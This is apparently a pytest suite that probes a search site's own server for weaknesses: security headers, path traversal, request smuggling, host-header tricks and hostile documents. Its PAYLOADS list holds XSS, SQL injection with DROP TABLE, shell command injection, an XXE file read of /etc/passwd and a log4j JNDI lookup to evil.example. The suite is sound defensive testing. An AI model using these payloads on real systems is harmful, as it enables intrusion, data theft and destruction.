"""What somebody tries who means ill: every answer is asked for what a scanner of websites looks for."""

from __future__ import annotations

import csv
import io
import json
import re
import urllib.parse
from collections.abc import Iterator
from xml.etree import ElementTree as ET

import pytest
from hostile_corpus import COMPUTED, CRLF, IMAGE, SCRIPT, TEMPLATE, dangers, ingest
from raw_http import Answer, ask, send
from site_pages import OTHERS, PAGES, addresses
from support.cases import each_case
from support.stub_model import WITHOUT_MODEL

from benchmarks.serving import get_json, serving
from indexer.query.request import NAMES

PUBLIC = "https://search.example"
EVERYTHING = {**PAGES, **OTHERS}
SECRETS = re.compile(r"root:.*:0:0:|def create_app|Traceback|\[build-system\]|SQLite format", re.DOTALL)
"""What of this machine or this code no answer may hold."""


@pytest.fixture(scope="module")
def targets(base: str) -> dict[str, str]:
    """Path and query of every kind of answer."""
    return {name: address.removeprefix(base) for name, address in addresses(base, EVERYTHING).items()}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server on documents that mean ill, with a public address."""
    data = ingest(tmp_path_factory.mktemp("hostile"))
    with serving(data, settings={"ONRECORD_BASE_URL": PUBLIC, **WITHOUT_MODEL}) as address:
        yield address


def unhurt(answer: Answer) -> Answer:
    """The answer, if nothing in it is wrong whatever was asked."""
    assert 200 <= answer.status < 500, answer.text[:500]
    assert not SECRETS.search(answer.text)
    assert "Set-Cookie" not in answer.headers
    if answer.headers.get_content_type() == "text/html":
        kept = answer.headers.get("Content-Disposition", "").startswith("attachment")
        assert [one for one in dangers(answer.text) if not (kept and one.startswith("<style"))] == []
    return answer


# -- headers ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", EVERYTHING)
def test_every_answer_says_what_a_browser_may_do_with_it(base: str, targets: dict[str, str], name: str) -> None:
    answer = unhurt(ask(base, targets[name], Accept="text/html"))
    headers = answer.headers
    policy = dict(part.split(" ", 1) for part in headers["Content-Security-Policy"].split("; ") if " " in part)
    assert policy["default-src"] == ("'self'" if name == "original" else "'none'")
    assert policy["base-uri"] == policy["frame-ancestors"] == "'none'"
    assert not re.search(r"unsafe|\*|https?:|data:|blob:", headers["Content-Security-Policy"])
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cross-Origin-Opener-Policy"] == headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert headers["Permissions-Policy"]
    assert "Strict-Transport-Security" not in headers, "there is no HTTPS here"
    assert "Access-Control-Allow-Origin" not in headers
    assert not re.search(r"\d", headers.get("Server", "")), "no version for those who look for weaknesses"
    assert "X-Powered-By" not in headers


@pytest.mark.parametrize("name", EVERYTHING)
def test_every_answer_says_what_it_is_and_how_long_it_keeps(base: str, targets: dict[str, str], name: str) -> None:
    answer = ask(base, targets[name], Accept="text/html")
    kind, body = answer.headers["Content-Type"], answer.body
    if kind.startswith("text/"):
        assert "charset=utf-8" in kind
    begins = {"text/html": b"<!doctype html>", "image/png": b"\x89PNG", "application/pdf": b"%PDF-"}
    assert body.startswith(begins.get(kind.partition(";")[0], b""))
    if kind.endswith("json"):
        json.loads(body)
    kept = answer.headers["Cache-Control"]
    if answer.status >= 400 or name in {*PAGES, "metrics", "ready", "API status"}:
        assert kept == "no-cache"
    elif name in {"style", "script", "icon"}:
        assert "max-age=31536000" in kept


@pytest.mark.parametrize("name", EVERYTHING)
def test_other_methods_are_refused_and_nothing_is_echoed(base: str, targets: dict[str, str], name: str) -> None:
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "BREW"):
        answer = unhurt(ask(base, targets[name], method=method, X_Marker="echo-me"))
        assert answer.status in {404, 405}, method
        assert "echo-me" not in answer.text
    plain = ask(base, targets[name], X_HTTP_Method_Override="DELETE", X_Method_Override="DELETE")
    assert plain.status == ask(base, targets[name]).status
    head = ask(base, targets[name], method="HEAD")
    assert (head.status, head.body) == (plain.status, b"")


def test_what_is_preflighted_is_not_allowed(base: str, targets: dict[str, str]) -> None:
    for target in targets.values():
        answer = ask(base, target, method="OPTIONS", Origin="https://evil.example", Access_Control_Request_Method="GET")
        assert not [name for name in answer.headers if name.lower().startswith("access-control")]


# -- paths -----------------------------------------------------------------------------------------------------------

CLIMBS = [
    prefix + climb * depth + target
    for prefix in ("/", "/static/", "/documents/", "/static/onrecord.css/")
    for climb in (
        "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "..\\", "..%5c", "..%c0%af", "....//",
    )
    for depth in (1, 6)
    for target in ("etc/passwd", "app.py", "pyproject.toml")
]  # fmt: skip


@pytest.mark.parametrize("climb", range(0, len(CLIMBS), 40))
def test_no_path_leads_out(base: str, climb: int) -> None:
    for path in CLIMBS[climb : climb + 40]:
        assert unhurt(ask(base, path)).status in {400, 404}, path


@each_case
def test_no_odd_path_is_taken_for_another(base: str, path: str) -> None:
    answer = unhurt(ask(base, path))
    assert answer.status in {400, 404}
    assert "Location" not in answer.headers


@each_case
def test_nothing_asked_for_redirects(base: str, target: str) -> None:
    answer = unhurt(ask(base, target))
    assert not 300 <= answer.status < 400
    assert "Location" not in answer.headers


@pytest.mark.parametrize(
    "passage", ["//evil.example", "https://evil.example", "\\\\evil", "x\r\nX-Injected: 1", "../.."]
)
def test_what_does_redirect_stays_here(base: str, targets: dict[str, str], passage: str) -> None:
    own = urllib.parse.urlencode({"passage": passage, "style": "un", "without": "1"})
    for target in (f"/evidence?{own}", f"{targets['evidence']}&{own}", f"{targets['evidence']}&earlier=2"):
        answer = unhurt(ask(base, target, host="evil.example"))
        assert "X-Injected" not in answer.headers
        assert re.match(r"/evidence(\?|$)", answer.headers.get("Location", "/evidence"))


# -- parameters ------------------------------------------------------------------------------------------------------

PAYLOADS = {
    "script": f'"><{SCRIPT}',
    "handler": f"'\" autofocus onfocus=alert(1) x='{IMAGE}",
    "address": "javascript:alert(1)",
    "closing": f"</title></textarea></script>--><svg/onload=alert(1)>{SCRIPT}",
    "SQL": "' OR '1'='1' UNION SELECT sqlite_version(); DROP TABLE documents;--",
    "template": TEMPLATE,
    "command": "$(id)`id`;id|id&&id",
    "path": "../../../../etc/passwd",
    "CRLF": CRLF,
    "null": "a\x00b",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "log4j": "${jndi:ldap://evil.example/a}",
    "expression": ".*(a+)+$" * 20,
    "script in wide letters": "＜script＞alert(1)＜/script＞",
    "overlong": "%c0%bcscript%c0%be",
    "direction": "\u202e\u2066evil\u2069",
    "store query": '{"$gt": ""}" OR *:* TO [* TO *]',
}


MARKS = ("“”", "-", "...", "、", "* * *", '""', "()", "\u200b", "\u0301", "¿?", "😀")
"""Texts without a word."""


def test_a_text_of_marks_alone_is_no_fault_in_any_parameter(base: str, targets: dict[str, str]) -> None:
    paths = get_json(f"{base}/api/v1/openapi.json")["paths"]
    for target in targets.values():
        path, _, query = target.partition("?")
        own = urllib.parse.parse_qsl(query)
        declared = [
            parameter["name"]
            for template, operations in paths.items()
            if re.fullmatch(re.sub(r"\{\w+\}", "[^/]+", template), path)
            for parameter in operations.get("get", {}).get("parameters", ())
            if parameter["in"] == "query"
        ]
        names = dict.fromkeys([*declared, "q", "text", "topic", *(name for name, _ in own)])
        for number, name in enumerate(names):
            others = [(other, value) for other, value in own if other != name]
            for mark in MARKS[:2] if name in {"q", "text", "topic"} else (MARKS[number % len(MARKS)],):
                unhurt(ask(base, f"{path}?{urllib.parse.urlencode([*others, (name, mark)])}"))


@pytest.mark.parametrize("mark", MARKS)
@pytest.mark.parametrize("path", ["/api/v1/quotes", "/api/v1/allies", "/quotes", "/allies"])
def test_a_posted_text_of_marks_alone_is_no_fault(base: str, path: str, mark: str) -> None:
    names = ("text", "quote", "quotes", "speaker", "passage", "topic")
    if path.startswith("/api"):
        bodies = [json.dumps({name: mark}) for name in names]
        bodies += [json.dumps({"quotes": [{"quote": mark, "speaker": mark}]}), json.dumps({"quotes": [mark]})]
        kind = "application/json"
    else:
        bodies = [urllib.parse.urlencode({name: mark}) for name in names]
        kind = "application/x-www-form-urlencoded"
    for body in bodies:
        lines = [f"POST {path} HTTP/1.1", "Host: localhost", f"Content-Type: {kind}", "Connection: close"]
        lines += [f"Content-Length: {len(body.encode())}", "", body]
        unhurt(send(base, "\r\n".join(lines).encode()))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("path", ["/search", "/api/v1/search", "/search.atom", "/search.csv", "/search.bib"])
def test_no_parameter_is_more_than_text(base: str, path: str, payload: str) -> None:
    for name in (*NAMES, PAYLOADS[payload][:50], "passage"):
        target = f"{path}?{urllib.parse.urlencode({name: PAYLOADS[payload]})}"
        answer = unhurt(ask(base, target, Accept="text/html"))
        assert answer.status in {200, 400}, target
        assert COMPUTED not in answer.text
        assert "stolen" not in str(answer.headers)
        if answer.headers.get_content_type().endswith("xml"):
            ET.fromstring(answer.text)  # noqa: S314 - our own XML


def test_an_injected_condition_selects_nothing(base: str) -> None:
    everything = get_json(f"{base}/api/v1/search")["total"]["documents"]
    assert everything > 30
    for name in ("document", "process", "group", "submitter"):
        for value in (PAYLOADS["SQL"], PAYLOADS["store query"], "*", "%", "_%"):
            found = get_json(f"{base}/api/v1/search?{urllib.parse.urlencode({name: value})}")
            assert found["total"]["documents"] == 0, (name, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_passage_or_id_is_more_than_text(base: str, targets: dict[str, str], payload: str) -> None:
    value = urllib.parse.quote(PAYLOADS[payload], safe="")
    page = targets["page"]
    for target in (
        f"{page}?passage={value}", f"{page}.png?passage={value}", f"/documents/{value}", f"/{value}", f"{page}/{value}",
        f"/documents/{value}/original", f"/api/v1/documents/{value}", f"{page}?{value}={value}",
    ):  # fmt: skip
        answer = unhurt(ask(base, target, Accept="text/html"))
        assert "stolen" not in str(answer.headers)
        assert COMPUTED not in answer.text


# -- hosts, sizes, forms of requests ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "host", ["<script>", "a b", "evil.example/x", "user@evil.example", '"', "a'b", "x:99999", "[::1"]
)
def test_what_is_no_host_name_is_refused(base: str, host: str) -> None:
    for target in ("/", "/search?q=a", "/search.atom", "/opensearch.xml", "/api/v1/search"):
        answer = unhurt(ask(base, target, host=host))
        assert answer.status == 400
        assert f"//{host}" not in answer.text


def test_with_a_public_address_nothing_reflects_another_host(hostile: str) -> None:
    for target in ("/", "/search", "/search.atom", "/search.csv", "/search.ris", "/search.jsonl", "/opensearch.xml",
                   "/api/v1/search", "/api/v1/openapi.json", "/nowhere", "/status"):  # fmt: skip
        answer = ask(
            hostile, target, host="evil.example", X_Forwarded_Host="evil.example", Forwarded="host=evil.example"
        )
        assert "evil.example" not in answer.text + str(answer.headers)
        assert answer.headers["Strict-Transport-Security"] == "max-age=31536000"
    assert f"{PUBLIC}/documents/" in ask(hostile, "/search.atom").text


def test_large_requests_are_refused_with_a_status_that_says_why(base: str) -> None:
    assert ask(base, f"/search?q={'x' * 8_050}").status == 414
    assert ask(base, f"/search?q={'x' * 100_000}").status == 414
    assert ask(base, f"/search?{'&' * 1_500}").status == 400
    assert ask(base, "/search", X_Long="x" * 100_000).status in {400, 431}
    assert ask(base, "/search", **{f"X_Many_{number}": "x" for number in range(200)}).status in {400, 431}
    body = b"POST /search HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: 5000000\r\n\r\n"
    assert send(base, body).status == 413
    assert ask(base, "/search?q=a").status == 200, "and the server goes on"


@each_case
def test_requests_that_two_servers_would_read_differently_are_refused(base: str, lines: list[str]) -> None:
    head = "\r\n".join(["POST /search HTTP/1.1", "Host: localhost", "Connection: close", *lines])
    answer = send(base, f"{head}\r\n\r\n0\r\n\r\nGET /status HTTP/1.1\r\nHost: localhost\r\n\r\n".encode("latin-1"))
    assert answer.status in {0, 400, 405, 501}
    assert b"The collection" not in answer.body


def test_gunicorn_takes_no_headers_of_a_proxy(base: str) -> None:
    answer = ask(
        base, "/search", SCRIPT_NAME="/evil", PATH_INFO="/metrics", X_Forwarded_Proto="https", X_Forwarded_Ssl="on"
    )
    lines = b"GET /search HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nSCRIPT_NAME: //evil.example\r\n\r\n"
    for one in (answer, send(base, lines)):
        assert "evil" not in one.text
        assert "Strict-Transport-Security" not in one.headers


# -- documents that mean ill -----------------------------------------------------------------------------------------


def test_no_page_obeys_a_document(hostile: str) -> None:
    results = get_json(f"{hostile}/api/v1/search?size=100")["results"]
    assert len(results) == 3
    assert any(SCRIPT in result["document"]["title"] for result in results), "as it was given, in JSON"
    paths = [
        "/",
        "/search",
        "/search?q=hostile",
        "/search?q=script&mode=keyword",
        "/search?q=nothing&mode=keyword",
        "/status",
    ]
    for result in results:
        path = f"/documents/{result['document']['id']}"
        passages = [urllib.parse.quote(one["id"]) for one in result["passages"]]
        paths += [path, f"{path}/pages/1", *(f"{path}/pages/1?passage={one}" for one in passages)]
    shown = 0
    for path in paths:
        answer = unhurt(ask(hostile, path, Accept="text/html"))
        assert answer.status == 200
        assert COMPUTED not in answer.text
        shown += answer.text.count("&lt;script&gt;")
    assert shown > 20, "and all of it is shown"


def test_no_file_that_leaves_obeys_a_document(hostile: str) -> None:
    rows = list(csv.DictReader(io.StringIO(ask(hostile, "/search.csv").body.decode("utf-8-sig"))))
    assert rows
    assert not [cell for row in rows for cell in row.values() if re.match(r"[=+@\t\r-]", cell or "")]
    ET.fromstring(ask(hostile, "/search.atom").text)  # noqa: S314 - our own XML
    assert len(ask(hostile, "/search.jsonl").text.splitlines()) == 3
    ris = ask(hostile, "/search.ris").text
    assert ris.count("TY  - ") == ris.count("ER  - ") == 3
    assert not [line for line in ris.splitlines() if line and not re.match(r"[A-Z][A-Z0-9]  - ", line)]


def test_original_files_can_do_nothing(hostile: str) -> None:
    kinds = set()
    for result in get_json(f"{hostile}/api/v1/search?size=100")["results"]:
        answer = ask(hostile, f"/documents/{result['document']['id']}/original")
        kind, disposition = answer.headers.get_content_type(), answer.headers["Content-Disposition"]
        kinds.add(kind)
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert len(answer.headers.get_all("Content-Disposition", [])) == 1
        assert re.fullmatch(
            r'(inline|attachment); filename=("(?:[^"\\]|\\.)*"|[\w.=()-]+)(; filename\*=UTF-8\'\'[\w.%~!-]+)?',
            disposition,
        )
        if kind != "application/pdf":
            assert disposition.startswith("attachment")
            assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert kinds == {"application/pdf", "text/html", "text/plain"}


def test_dangers_are_seen() -> None:
    assert dangers(f"<p>{SCRIPT}</p>")
    assert dangers(f"<p>{IMAGE}</p>")
    assert dangers('<a href=" javascript:alert(1)">x</a>')
    assert not dangers(f"<p>{SCRIPT.replace('<', '&lt;')}</p>")
